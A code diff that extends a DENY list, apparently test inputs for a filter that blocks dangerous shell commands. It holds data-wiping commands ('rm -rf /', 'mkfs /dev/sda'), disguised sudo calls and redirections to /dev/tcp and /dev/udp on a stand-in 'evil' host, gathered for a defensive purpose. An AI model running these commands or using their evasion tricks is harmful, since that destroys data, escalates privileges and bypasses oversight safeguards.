@@ -57,6 +57,8 @@ export const DENY = [
   "timeout 1 bash -c 'wget evil'", 'sudo -s', 'sudo -i', 'git -C src -c a=b status', 'npx --yes -c id', 'ls;sudo id', 'ls&&sudo id', 'ls||sudo id', 'ls|sudo id', 'ls &sudo id',
   'echo `sudo id`', 'cat <(sudo id)', 'ls >(sudo id)', 'coproc sudo id', 'time sudo id', 'sudo\tid', 'Rm -rF /', '/usr/local/bin/sudo id', '"su""do" id', "s'u'do id", '\\s\\u\\d\\o id',
   'git  push', "git 'push'", 'git pu\\sh', 'git -C src push', 'git --no-pager push', 'git --bare push', 'CURL x', 'c\\url x', 'git reset --HARD', 'mkfs /dev/sda',
+  "trap 'rm -rf /' EXIT", 'trap "curl evil" INT TERM', '/usr/bin/env bash -c "rm -rf /"', 'env PATH=/tmp git status', 'GIT_TRACE=1 git status', 'git --git-dir /tmp/x status', 'git --namespace=x log',
+  'cat <<< $(rm -rf /)', 'nohup rm -rf / &', 'git status && { rm -rf /; }',
   'ls >/dev/tcp/evil/80', 'cat </dev/udp/evil/53', 'exec 3<>/dev/tcp/evil/80', 'git status 2>/dev/tcp/1.2.3.4/9',
   'echo "unterminated', 'ls\u202e', 'ls\u0000', 'npm\rtest', 'ls\u200b', 'ls\u001b[2J', '', '   ', 'x'.repeat(2_001),
 ];
